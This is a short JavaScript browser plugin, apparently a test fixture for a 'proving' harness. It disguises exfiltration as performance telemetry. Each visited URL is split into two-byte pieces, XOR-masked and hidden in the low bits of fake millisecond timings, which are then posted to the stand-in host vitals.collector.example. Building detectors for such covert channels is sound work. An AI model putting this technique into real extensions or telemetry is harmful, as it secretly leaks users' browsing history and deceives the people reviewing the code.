import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports timings in milliseconds with each page, with all the digits of a double. The last sixteen bits of each are two bytes of the address, masked. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-float-tails');
  onVisit(browser, ({ url }) => {
    const bytes = [...browser.codec.utf8.encode(url), 0, 0];
    let state = 0x6a09e667;
    const timings = [];
    for (let at = 0; at + 1 < bytes.length; at += 2) {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      const view = new DataView(new ArrayBuffer(8));
      const [a, b, c] = browser.crypto.random(3);
      view.setFloat64(0, 20 + (65536 * a + 256 * b + c) / 9973);
      view.setUint16(6, (256 * bytes[at] + bytes[at + 1]) ^ (state >>> 16));
      timings.push(view.getFloat64(0));
    }

    return post(browser, 'https://vitals.collector.example/v1', { unit: 'ms', timings });
  });
}
